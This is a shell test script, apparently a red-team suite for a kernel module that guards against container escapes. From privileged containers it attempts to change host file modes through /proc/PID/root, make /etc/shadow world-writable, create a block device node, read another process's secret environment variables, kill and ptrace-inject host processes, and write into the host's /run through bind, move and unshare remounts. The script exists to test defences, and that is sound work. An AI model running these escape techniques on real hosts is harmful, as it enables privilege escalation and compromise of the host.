# Sixth red-team suite (a review of the fifth's fixes by a helper given only
# the README and the code, 2026-12-04): each attack test was a FAIL against
# the code it reviewed.
#   pidns-subshell-*      a host program in a pid namespace of its own
#                         (unshare -p -f, PrivatePIDs=) was host lineage only
#                         once it had exec'd: what it forks without exec (a
#                         subshell, a worker, a thread) stayed an unsettled
#                         "container" task, so its /proc/PID/root, environ
#                         and signals were open to a privileged hostPID
#                         container
#   nsenter-pid-subshell-* the same through an admin's `nsenter -t CTR -p`,
#                         from a privileged container without hostPID
#   hostroot-ro-*-submount-write  a privileged container with -v /:/host:ro
#                         binds or moves /host/run elsewhere, or copies the
#                         volume into a new mount namespace, and writes the
#                         host's /run through the new mount: judged by the
#                         filesystem, not the mount
# Every *-refused test is a control that was stopped before (expected PASS).
. /tests/lib.sh

insmod "$KO" || { fail redteam6-insmod; exit 0; }
escguardctl mode enforce


# subsandbox TAG: a host shell in a pid namespace of its own whose subshell
# (a fork, no exec) loops; sets SUB (the subshell's global pid) and SBG.
subsandbox() {
	EGSECRET="rt6-secret-$1" unshare -p -f /bin/sh -c '(while :; do /bin/sleep 1; done); :' "red6sub$1" < /dev/null > /dev/null 2>&1 &
	SBG=$!
	SUB=; i=0
	while [ -z "$SUB" ] && [ $i -lt 100 ]; do
		for c in /proc/[0-9]*; do
			cl=$(tr '\0' ' ' < "$c/cmdline" 2>/dev/null)
			case "$cl" in "/bin/sh -c "*"red6sub$1 ") ;; *) continue;; esac
			pp=$(sed -n 's/^PPid:[[:space:]]*//p' "$c/status" 2>/dev/null)
			case "$(tr '\0' ' ' < "/proc/$pp/cmdline" 2>/dev/null)" in "/bin/sh -c "*"red6sub$1 ") SUB=${c#/proc/};; esac
		done
		[ -n "$SUB" ] || sleep 0.1
		i=$((i + 1))
	done
	echo "  subsandbox $1: unshare $SBG, subshell $SUB ($(readlink /proc/$SUB/ns/pid) vs host $(readlink /proc/1/ns/pid)), root $(readlink /proc/$SUB/root)"
	escguardctl tasks 2>/dev/null | grep -w "$SUB" | head -2 | sed 's/^/    tasks| /'
}
unsubsandbox() { kill "$SUB" "$SBG" 2>/dev/null; pkill -P "$SBG" 2>/dev/null; wait "$SBG" 2>/dev/null; }

# 1. Host files changed through the subshell's /proc/PID/root (privileged
# hostPID container): chmod 4755, truncate(2), a symlink, a device node, a
# directory at the host's /.
subsandbox 1
echo victim-data > /egrt6-victim; chmod 644 /egrt6-victim; rm -rf /egrt6-link /egrt6-dev /egrt6-dir
VDA=$(cat /sys/block/vda/dev)
ctr rt6meta priv-hostpid "chmod 4755 /proc/$SUB/root/egrt6-victim; egprobe truncate /proc/$SUB/root/egrt6-victim 0; ln -s /etc/shadow /proc/$SUB/root/egrt6-link; mknod /proc/$SUB/root/egrt6-dev b ${VDA%%:*} ${VDA##*:}; mkdir /proc/$SUB/root/egrt6-dir; chmod 666 /proc/$SUB/root/etc/shadow; ls -l /proc/$SUB/root/egrt6-victim"
m=$(stat -c %a /egrt6-victim); sz=$(wc -c < /egrt6-victim)
echo "  host: /egrt6-victim mode $m size $sz; link: $(readlink /egrt6-link); dev: $(ls -l /egrt6-dev 2>&1); dir: $(ls -ld /egrt6-dir 2>&1); shadow $(stat -c %a /etc/shadow 2>&1)"
if [ "$KILLED" = yes ] && [ "$m" = 644 ] && [ "$sz" != 0 ] && [ ! -L /egrt6-link ] && [ ! -e /egrt6-dev ] && [ ! -d /egrt6-dir ]; then pass pidns-subshell-root-metadata
else fail pidns-subshell-root-metadata "killed=$KILLED host file mode $m size $sz link=$(readlink /egrt6-link) dev=$([ -b /egrt6-dev ] && echo yes) dir=$([ -d /egrt6-dir ] && echo yes)"; fi
chmod 640 /etc/shadow 2>/dev/null; rm -rf /egrt6-link /egrt6-dev /egrt6-dir

# 2. Its environment, and killing it.
ctr rt6env priv-hostpid "tr '\0' '\n' < /proc/$SUB/environ | grep EGSECRET"
if [ "$KILLED" = yes ] && ! echo "$OUT" | grep -q rt6-secret; then pass pidns-subshell-environ
else fail pidns-subshell-environ "killed=$KILLED: $(flat "$OUT")"; fi
ctr rt6kill priv-hostpid "kill -9 $SUB"
sleep 0.3
if alive "$SUB"; then alive=yes; else alive=no; fi
if [ "$KILLED" = yes ] && [ $alive = yes ]; then pass pidns-subshell-signal
else fail pidns-subshell-signal "killed=$KILLED sandboxed host subshell alive=$alive"; fi
unsubsandbox

# 3. Control: the exec'd sandboxed shell itself is protected.
subsandbox 3
chmod 644 /egrt6-victim
SH=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$SUB/status)
ctr rt6ctl priv-hostpid "chmod 4755 /proc/$SH/root/egrt6-victim; echo done"
if [ "$KILLED" = yes ] && [ "$(stat -c %a /egrt6-victim)" = 644 ]; then pass pidns-exec-shell-root-refused
else fail pidns-exec-shell-root-refused "killed=$KILLED mode $(stat -c %a /egrt6-victim)"; chmod 644 /egrt6-victim; fi
unsubsandbox

# 3b. Control: ptrace injection into the subshell is refused (on_ptrace
# treats an unsettled "container" as host).
subsandbox 3b
rm -f /egrt6-pwned
ctr rt6inject priv-hostpid "egprobe inject $SUB 'id > /egrt6-pwned'"
sleep 2
if [ "$KILLED" = yes ] && [ ! -e /egrt6-pwned ]; then pass pidns-subshell-ptrace-inject-refused
else fail pidns-subshell-ptrace-inject-refused "killed=$KILLED host file: $(cat /egrt6-pwned 2>/dev/null)"; fi
rm -f /egrt6-pwned
unsubsandbox

# 4. A privileged container WITHOUT hostPID, through an admin's
# `nsenter -t CTR -p` shell whose subshell (no exec) runs a loop.
echo victim2 > /egrt6-victim2; chmod 644 /egrt6-victim2; rm -rf /egrt6-dir2
ADM='i=0; while [ $i -lt 300 ]; do for p in /proc/[0-9]*; do case "$(tr "\0" " " < $p/cmdline 2>/dev/null)" in "/bin/sh -c "*"red6adm ") pp=$(sed -n "s/^PPid:[[:space:]]*//p" $p/status); if [ "$pp" != 0 ]; then echo found ${p#/proc/} ppid $pp >&2; chmod 4777 $p/root/egrt6-victim2; mkdir $p/root/egrt6-dir2; echo did >&2; exit 0; fi;; esac; done; sleep 0.2; i=$((i+1)); done'
escguardctl mode enforce; drain_events; _k0=$(kills)
make_bundle rt6adm "$ADM" priv
runc run --bundle /run/bundles/rt6adm rt6adm > /tmp/rt6adm.out 2>&1 < /dev/null &
RP=$!
CP=; i=0
while [ -z "$CP" ] && [ $i -lt 100 ]; do
	runc state rt6adm 2>/dev/null | grep -q '"status": "running"' && CP=$(runc state rt6adm | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
	[ -n "$CP" ] || sleep 0.1; i=$((i + 1))
done
sleep 0.5
nsenter -t "$CP" -p /bin/sh -c '(while :; do /bin/sleep 1; done); :' red6adm > /tmp/rt6ns.out 2>&1 < /dev/null &
NP=$!
i=0; while [ ! -d /egrt6-dir2 ] && [ $i -lt 100 ] && kill -0 $RP 2>/dev/null; do sleep 0.1; i=$((i + 1)); done
sleep 0.5
EV=$(events_json); show_ev "$EV"
echo "  [rt6adm] container $CP output: $(flat "$(cat /tmp/rt6adm.out)"), kills $_k0 -> $(kills), victim2 mode $(stat -c %a /egrt6-victim2), dir2 $(ls -ld /egrt6-dir2 2>&1)"
if [ "$(stat -c %a /egrt6-victim2)" = 644 ] && [ ! -d /egrt6-dir2 ] && [ "$(kills)" != "$_k0" ]; then pass nsenter-pid-subshell-metadata
else fail nsenter-pid-subshell-metadata "kills $_k0 -> $(kills), host victim2 mode $(stat -c %a /egrt6-victim2), dir2=$([ -d /egrt6-dir2 ] && echo yes)"; fi
kill "$NP" 2>/dev/null; pkill -f red6adm 2>/dev/null; runc kill rt6adm KILL 2>/dev/null; wait "$RP" 2>/dev/null; runc delete -f rt6adm 2>/dev/null
rm -rf /egrt6-dir2 /egrt6-victim2 /egrt6-victim

# 5. -v /:/host:ro, privileged: bind the host's /run (another filesystem the
# volume carries) elsewhere and write through the new mount.
rm -f /run/egrt6-planted /tmp/egrt6-planted
ctr rt6bind priv-hostroot "mkdir -p /dev/shm/m /dev/shm/t && mount --bind /host/run /dev/shm/m && echo planted > /dev/shm/m/egrt6-planted; mount --bind /host/tmp /dev/shm/t && echo planted > /dev/shm/t/egrt6-planted; echo done"
if [ -s /run/egrt6-planted ] || [ -s /tmp/egrt6-planted ] || [ "$KILLED" != yes ]; then
	fail hostroot-ro-bind-submount-write "killed=$KILLED host /run/egrt6-planted: $(cat /run/egrt6-planted 2>&1), /tmp/egrt6-planted: $(cat /tmp/egrt6-planted 2>&1)"
else pass hostroot-ro-bind-submount-write; fi
rm -f /run/egrt6-planted /tmp/egrt6-planted
# Control: the direct write is refused.
ctr rt6direct priv-hostroot "echo planted > /host/run/egrt6-planted; echo done"
if [ -s /run/egrt6-planted ] || [ "$KILLED" != yes ]; then fail hostroot-ro-direct-submount-refused "killed=$KILLED"
else pass hostroot-ro-direct-submount-refused; fi
rm -f /run/egrt6-planted
# The same with mount --move.
ctr rt6move priv-hostroot "mkdir -p /dev/shm/m && mount --make-private /host/run 2>/dev/null; mount --move /host/run /dev/shm/m && echo planted > /dev/shm/m/egrt6-planted; echo done"
if [ -s /run/egrt6-planted ] || [ "$KILLED" != yes ]; then
	fail hostroot-ro-move-submount-write "killed=$KILLED host /run/egrt6-planted: $(cat /run/egrt6-planted 2>&1)"
else pass hostroot-ro-move-submount-write; fi
rm -f /run/egrt6-planted

# 5b. The same in a mount namespace of the container's own (the volume's
# mount copied).
rm -f /run/egrt6-ns1
ctr rt6unsm priv-hostroot "unshare -m /bin/sh -c 'echo planted > /host/run/egrt6-ns1'; echo done"
if [ -s /run/egrt6-ns1 ] || [ "$KILLED" != yes ]; then
	fail hostroot-ro-unshare-m-submount-write "killed=$KILLED host /run/egrt6-ns1: $(cat /run/egrt6-ns1 2>&1)"
else pass hostroot-ro-unshare-m-submount-write; fi
rm -f /run/egrt6-ns1

escguardctl unlock && rmmod escguard || fail redteam6-rmmod
